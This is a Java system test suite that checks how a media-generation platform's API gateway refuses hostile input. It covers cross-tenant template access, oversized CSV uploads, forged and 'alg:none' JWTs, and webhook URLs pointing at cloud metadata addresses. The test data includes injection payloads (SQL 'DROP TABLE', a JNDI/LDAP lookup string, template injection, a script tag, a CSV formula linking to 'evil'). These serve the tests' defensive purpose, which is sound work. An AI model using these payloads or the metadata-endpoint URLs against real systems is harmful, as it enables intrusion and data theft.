package studio.system;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;

import java.util.List;
import java.util.Map;
import java.util.UUID;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import io.restassured.http.ContentType;

/**
 * Hostile input through the gateway and the real services: one vendor naming another's private
 * template (refused, and the owner's figures stand still), an oversized upload, text that cannot be
 * stored; each a problem+json and nothing stored.
 */
class HostileInputThroughTheGatewayTest {

    private static Platform platform;

    @BeforeAll
    static void start() {
        platform = Platform.shared();
    }

    @Test
    void everyOperationOfEveryServicesApiIsRoutedByTheGateway() {
        List<String> unrouted = new java.util.ArrayList<>();
        for (String service : List.of("template-service", "style-service", "batch-service", "notification-service")) {
            Map<String, Object> paths = given().baseUri(platform.serviceUrl(service)).when().get("/q/openapi?format=json").then()
                    .statusCode(200).extract().path("paths");
            for (String path : paths.keySet()) {
                if (!path.startsWith("/api/vendor/media")) {
                    continue;
                }
                // {service} is the service's own name (its outbox dead letters), any other parameter an id
                String concrete = path.replace("{service}", service).replaceAll("\\{[^}]+}", UUID.randomUUID().toString());
                // without a token: the service's 401, or the gateway's own 404 when it has no route for the path
                String answer = given().when().get(concrete).then().extract().asString();
                if (answer.contains("No service answers")) {
                    unrouted.add(service + " " + path);
                }
            }
        }
        org.assertj.core.api.Assertions.assertThat(unrouted).as("paths the gateway routes to no service").isEmpty();
    }

    @Test
    void anotherVendorsPrivateTemplateCannotBeNamedAndItsOwnersFiguresDoNotMove() {
        String owner = platform.vendorToken("owner-" + UUID.randomUUID());
        String intruder = platform.vendorToken("intruder-" + UUID.randomUUID());
        String templateId = given().auth().oauth2(owner).contentType(ContentType.JSON)
                .body("{\"name\": \"Private\", \"promptText\": \"{product_name} on marble\"}")
                .when().post("/api/vendor/media/prompt-templates").then().statusCode(201).extract().path("id");

        given().auth().oauth2(intruder).contentType(ContentType.JSON).body("{\"prompt\": \"Gelato on marble\", \"templateId\": \"" + templateId + "\"}")
                .when().post("/api/vendor/media/generate").then().statusCode(400).body("errors[0].field", equalTo("templateId"));
        given().auth().oauth2(intruder).contentType(ContentType.JSON)
                .body("{\"prompt\": \"Gelato\", \"templateId\": \"" + templateId + "\", \"variations\": [{\"label\": \"a\"}, {\"label\": \"b\"}]}")
                .when().post("/api/vendor/media/generate/variations").then().statusCode(400).body("errors[0].field", equalTo("templateId"));
        given().auth().oauth2(intruder).contentType(ContentType.JSON).body("{\"autoGenerate\": true, \"templateId\": \"" + templateId + "\"}")
                .when().put("/api/vendor/media/products/generation-settings").then().statusCode(400);
        given().auth().oauth2(intruder).contentType(ContentType.JSON)
                .body("{\"templateId\": \"" + templateId + "\", \"rows\": [{\"product_name\": \"Gelato\"}]}")
                .when().post("/api/vendor/media/generate/batch").then().statusCode(400);
        given().auth().oauth2(intruder).when().get("/api/vendor/media/generate/batch").then().body("total", equalTo(0));

        given().auth().oauth2(owner).when().get("/api/vendor/media/prompt-templates/" + templateId + "/stats").then().statusCode(200)
                .body("usageCount", equalTo(0)).body("imagesAttempted", equalTo(0));
    }

    @Test
    void aCsvOverTheLimitGetsTheServicesOwnProblemThroughTheGateway() {
        String vendor = platform.vendorToken("big-" + UUID.randomUUID());
        String templateId = given().auth().oauth2(vendor).contentType(ContentType.JSON)
                .body("{\"name\": \"Big\", \"promptText\": \"{product_name}\"}")
                .when().post("/api/vendor/media/prompt-templates").then().statusCode(201).extract().path("id");
        StringBuilder csv = new StringBuilder("product_name\n");
        String row = "x".repeat(200) + "\n";
        while (csv.length() < 11 * 1024 * 1024) {
            csv.append(row);
        }
        given().auth().oauth2(vendor).multiPart("file", "big.csv", csv.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8), "text/csv")
                .multiPart("templateId", templateId).when().post("/api/vendor/media/generate/batch/csv").then().statusCode(413)
                .contentType("application/problem+json").body("type", equalTo("urn:studio:problem:file-too-large"));
        given().auth().oauth2(vendor).when().get("/api/vendor/media/generate/batch").then().body("total", equalTo(0));
    }

    @Test
    void textThatCannotBeStoredIsRefusedByEveryServiceAlike() {
        String vendor = platform.vendorToken("text-" + UUID.randomUUID());
        given().auth().oauth2(vendor).contentType(ContentType.JSON).body("{\"name\": \"a\\u0000b\", \"promptText\": \"{product_name}\"}")
                .when().post("/api/vendor/media/prompt-templates").then().statusCode(400).body("errors[0].field", equalTo("name"));
        given().auth().oauth2(vendor).contentType(ContentType.JSON)
                .body("{\"name\": \"\\u200b\", \"basePromptSuffix\": \"soft light\"}")
                .when().post("/api/vendor/media/style-presets").then().statusCode(400).body("errors[0].field", equalTo("name"));
        given().auth().oauth2(vendor).queryParam("page", "abc").when().get("/api/vendor/media/prompt-templates").then().statusCode(400)
                .body("errors[0].field", equalTo("page"));
        given().auth().oauth2(vendor).queryParam("page", 21474837).queryParam("size", 100).when().get("/api/vendor/media/style-presets")
                .then().statusCode(400).body("errors[0].field", equalTo("page"));
        given().auth().oauth2(vendor).when().get("/api/vendor/media/prompt-templates").then().body("total", equalTo(0));
    }

    @Test
    void aCsvJustInsideTheLimitIsRenderedInPiecesNotRefusedByTheTemplateServicesOwnLimit() {
        String vendor = platform.vendorToken("near-" + UUID.randomUUID());
        String templateId = given().auth().oauth2(vendor).contentType(ContentType.JSON)
                .body("{\"name\": \"Long copy\", \"promptText\": \"{product_name}: {description}\", \"variables\": [{\"name\": \"description\"}]}")
                .when().post("/api/vendor/media/prompt-templates").then().statusCode(201).extract().path("id");
        // 10,000 rows of about 980 bytes: 9.8 MB, inside the upload limit; as one JSON render request it is over 10 MB
        StringBuilder csv = new StringBuilder("product_name,description\n");
        for (int i = 0; i < 10_000; i++) {
            csv.append("Strain ").append(i).append(',').append("long copy ".repeat(96)).append('\n');
        }
        byte[] file = csv.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8);
        org.assertj.core.api.Assertions.assertThat(file.length).isBetween(9_500_000, 10_000_000);
        given().auth().oauth2(vendor).multiPart("file", "near.csv", file, "text/csv").multiPart("templateId", templateId)
                .when().post("/api/vendor/media/generate/batch/csv/preview").then().statusCode(200)
                .body("rows", equalTo(10_000)).body("problems", org.hamcrest.Matchers.empty())
                .body("prompts[0]", org.hamcrest.Matchers.startsWith("Strain 0: long copy"));
        // a problem deep in the file is named by its own row and line, across the pieces the render went in
        String holed = csv.toString().replace("Strain 9000,", ",");
        given().auth().oauth2(vendor).multiPart("file", "holed.csv", holed.getBytes(java.nio.charset.StandardCharsets.UTF_8), "text/csv")
                .multiPart("templateId", templateId).when().post("/api/vendor/media/generate/batch/csv/preview").then().statusCode(200)
                .body("problems", org.hamcrest.Matchers.hasSize(1)).body("problems[0].field", equalTo("rows[9000].product_name"))
                .body("problems[0].line", equalTo(9002));
        String scheduled = java.time.Instant.now().plus(java.time.Duration.ofDays(1)).toString();
        String batch = given().auth().oauth2(vendor).multiPart("file", "near.csv", file, "text/csv").multiPart("templateId", templateId)
                .multiPart("scheduledFor", scheduled)
                .when().post("/api/vendor/media/generate/batch/csv").then().statusCode(202)
                .body("totalImages", equalTo(10_000)).extract().path("id");
        given().auth().oauth2(vendor).when().delete("/api/vendor/media/generate/batch/" + batch).then().statusCode(200)
                .body("cancelledImages", equalTo(10_000));
    }

    @Test
    void credentialsTheServicesRefuseAreProblemsAndLocationsNameTheGateway() {
        given().when().get("/api/vendor/media/prompt-templates").then().statusCode(401).contentType("application/problem+json")
                .header("WWW-Authenticate", org.hamcrest.Matchers.startsWith("Bearer"))
                .body("type", equalTo("urn:studio:problem:unauthenticated"));
        String unsigned = java.util.Base64.getUrlEncoder().withoutPadding().encodeToString("{\"alg\":\"none\"}".getBytes()) + "."
                + java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(("{\"sub\":\"x\",\"vendor_id\":\"" + UUID.randomUUID()
                        + "\",\"groups\":[\"vendor\"]}").getBytes()) + ".";
        given().auth().oauth2(unsigned).when().get("/api/vendor/media/generate/batch").then().statusCode(401)
                .contentType("application/problem+json").header("WWW-Authenticate", org.hamcrest.Matchers.containsString("invalid_token"));

        String vendor = platform.vendorToken("where-" + UUID.randomUUID());
        String location = given().auth().oauth2(vendor).contentType(ContentType.JSON)
                .body("{\"name\": \"Here\", \"promptText\": \"{product_name}\"}")
                .when().post("/api/vendor/media/prompt-templates").then().statusCode(201).extract().header("Location");
        org.assertj.core.api.Assertions.assertThat(location)
                .startsWith(platform.gatewayUrl() + "/api/vendor/media/prompt-templates/");
        given().auth().oauth2(vendor).when().get(location).then().statusCode(200).body("name", equalTo("Here"));
    }

    @Test
    void parametersOutsideTheModelsCatalogAndRetiredModelsAreRefusedByEveryService() {
        String vendor = platform.vendorToken("params-" + UUID.randomUUID());
        int styles = given().auth().oauth2(vendor).when().get("/api/vendor/media/style-presets").then().statusCode(200).extract().path("total");
        String junk = "x".repeat(2_000_000);
        given().auth().oauth2(vendor).contentType(ContentType.JSON)
                .body("{\"name\": \"Junk\", \"promptText\": \"{product_name}\", \"parameters\": {\"junk\": \"" + junk + "\"}}")
                .when().post("/api/vendor/media/prompt-templates").then().statusCode(400).body("errors[0].field", equalTo("parameters.junk"));
        given().auth().oauth2(vendor).contentType(ContentType.JSON)
                .body("{\"name\": \"Webp\", \"basePromptSuffix\": \"soft light\", \"parameters\": {\"output_format\": \"webp\"}}")
                .when().post("/api/vendor/media/style-presets").then().statusCode(400).body("errors[0].field", equalTo("parameters.output_format"));
        given().auth().oauth2(vendor).contentType(ContentType.JSON).body("{\"prompt\": \"a jar\", \"model\": \"gpt-image-1\"}")
                .when().post("/api/vendor/media/generate").then().statusCode(400)
                .body("errors[0].message", org.hamcrest.Matchers.containsString("use gpt-image-2.5-sunburst, its successor"));
        given().auth().oauth2(vendor).when().get("/api/vendor/media/prompt-templates").then().body("total", equalTo(0));
        given().auth().oauth2(vendor).when().get("/api/vendor/media/style-presets").then().body("total", equalTo(styles));
        given().auth().oauth2(vendor).when().get("/api/vendor/media/generate/batch").then().body("total", equalTo(0));
    }

    private static String template(String vendor, String prompt) {
        return given().auth().oauth2(vendor).contentType(ContentType.JSON)
                .body(new io.vertx.core.json.JsonObject().put("name", "T " + UUID.randomUUID()).put("promptText", prompt).encode())
                .when().post("/api/vendor/media/prompt-templates").then().statusCode(201).extract().path("id");
    }

    private static io.restassured.response.ValidatableResponse csv(String vendor, String path, String templateId, byte[] file) {
        return given().auth().oauth2(vendor).multiPart("file", "products.csv", file, "text/csv").multiPart("templateId", templateId)
                .when().post(path).then();
    }

    @Test
    void filesThatAreNotTheCsvTheyClaimAreRefusedWithTheirProblemAndNothingIsStored() {
        String vendor = platform.vendorToken("files-" + UUID.randomUUID());
        String templateId = template(vendor, "{product_name} by {brand_name}");
        String batchCsv = "/api/vendor/media/generate/batch/csv";
        java.nio.charset.Charset utf8 = java.nio.charset.StandardCharsets.UTF_8;
        Map<String, byte[]> files = new java.util.LinkedHashMap<>();
        files.put("UTF-16", "product_name,brand_name\nGelato,Acme\n".getBytes(java.nio.charset.StandardCharsets.UTF_16));
        files.put("binary", new byte[] {(byte) 0x89, 'P', 'N', 'G', 0, 0, 0, 13, 'I', 'H', 'D', 'R'});
        files.put("formula", "product_name,brand_name\nGelato,=HYPERLINK(\"http://evil\")\n".getBytes(utf8));
        files.put("quote never closed", "product_name,brand_name\n\"Gelato,Acme\nOG,Acme\n".getBytes(utf8));
        files.put("one variable twice", "Product Name,product_name,brand_name\nGelato,Gelato,Acme\n".getBytes(utf8));
        files.put("extra cells", "product_name,brand_name\nGelato,Acme,extra\n".getBytes(utf8));
        files.put("too many columns", (String.join(",", java.util.stream.IntStream.range(0, 201).mapToObj(i -> "c" + i).toList())
                + "\n" + ",".repeat(200) + "x\n").getBytes(utf8));
        files.put("a cell too long", ("product_name,brand_name\n" + "g".repeat(10_001) + ",Acme\n").getBytes(utf8));
        files.forEach((what, file) -> csv(vendor, batchCsv, templateId, file).statusCode(400).contentType("application/problem+json")
                .body("type", equalTo("urn:studio:problem:validation")).body("errors", org.hamcrest.Matchers.not(org.hamcrest.Matchers.empty())));
        given().auth().oauth2(vendor).when().get("/api/vendor/media/generate/batch").then().body("total", equalTo(0));
        // a byte order mark is not part of the first column's name
        csv(vendor, batchCsv + "/preview", templateId, "\uFEFFproduct_name,brand_name\nGelato,Acme\n".getBytes(utf8)).statusCode(200)
                .body("columns[0]", equalTo("product_name")).body("prompts[0]", equalTo("Gelato by Acme"));
    }

    @Test
    void injectionStringsAreKeptAsTextAndDeepNestingIsRefused() {
        String vendor = platform.vendorToken("inject-" + UUID.randomUUID());
        String name = "'; DROP TABLE prompt_templates; -- \", \"isPublic\": true, \"x\": \"";
        String id = given().auth().oauth2(vendor).contentType(ContentType.JSON)
                .body(new io.vertx.core.json.JsonObject().put("name", name).put("promptText", "{product_name} on marble")
                        .put("description", "${jndi:ldap://x/a} {{7*7}} <script>alert(1)</script>").encode())
                .when().post("/api/vendor/media/prompt-templates").then().statusCode(201).extract().path("id");
        given().auth().oauth2(vendor).when().get("/api/vendor/media/prompt-templates/" + id).then().statusCode(200)
                .body("name", equalTo(name)).body("isPublic", equalTo(false))
                .body("description", equalTo("${jndi:ldap://x/a} {{7*7}} <script>alert(1)</script>"));
        // 5,000 brackets overflowed the event loop's stack; sent as bytes, since a failed check would pretty-print them
        byte[] deep = ("{\"name\": \"Deep\", \"promptText\": \"{product_name}\", \"parameters\": {\"model\": " + "[".repeat(5_000)
                + "]".repeat(5_000) + "}}").getBytes(java.nio.charset.StandardCharsets.UTF_8);
        given().auth().oauth2(vendor).contentType(ContentType.JSON).body(deep)
                .when().post("/api/vendor/media/prompt-templates").then().statusCode(400).contentType("application/problem+json")
                .body("type", equalTo("urn:studio:problem:malformed-body"));
        given().auth().oauth2(vendor).when().get("/api/vendor/media/prompt-templates").then().body("total", equalTo(1));
    }

    @Test
    void tokensNotIssuedByTheRealmOrAlteredAfterSigningAreRefusedAsProblems() {
        String forged = studio.devstack.OidcKeys.generate().vendorToken("forger");
        String real = platform.vendorToken("victim-" + UUID.randomUUID());
        String[] parts = real.split("\\.");
        io.vertx.core.json.JsonObject claims = new io.vertx.core.json.JsonObject(new String(java.util.Base64.getUrlDecoder().decode(parts[1])));
        claims.put("vendor_id", UUID.randomUUID().toString());
        String altered = parts[0] + "." + java.util.Base64.getUrlEncoder().withoutPadding().encodeToString(claims.encode().getBytes()) + "." + parts[2];
        for (String token : List.of(forged, altered, real + "x")) {
            given().auth().oauth2(token).when().get("/api/vendor/media/generate/batch").then().statusCode(401)
                    .contentType("application/problem+json").body("type", equalTo("urn:studio:problem:unauthenticated"));
        }
        given().auth().oauth2(real).when().get("/api/vendor/media/generate/batch").then().statusCode(200);
    }

    @Test
    void webhookTargetsAtCloudMetadataOrNoRealPortAreRefusedEvenInDevelopment() {
        String vendor = platform.vendorToken("hooks-" + UUID.randomUUID());
        for (String url : List.of("http://169.254.169.254/latest/meta-data", "http://0xa9fea9fe/", "http://2852039166/",
                "http://[fd00:ec2::254]/", "http://metadata.google.internal/computeMetadata/v1/", "http://[64:ff9b::a9fe:a9fe]/",
                "http://example.com:65536/hook")) {
            given().auth().oauth2(vendor).contentType(ContentType.JSON)
                    .body(new io.vertx.core.json.JsonObject().put("url", url).put("eventTypes", new io.vertx.core.json.JsonArray().add("batch.completed")).encode())
                    .when().post("/api/vendor/media/webhooks").then().statusCode(400).contentType("application/problem+json")
                    .body("errors[0].field", equalTo("url"));
        }
        given().auth().oauth2(vendor).contentType(ContentType.JSON)
                .body("{\"url\": \"https://example.com/hook\", \"eventTypes\": [\"batch.completed\"], \"description\": \"\\u200b\\u200b\"}")
                .when().post("/api/vendor/media/webhooks").then().statusCode(400).body("errors[0].field", equalTo("description"));
        given().auth().oauth2(vendor).when().get("/api/vendor/media/webhooks").then().statusCode(200).body("total", equalTo(0));
    }
}
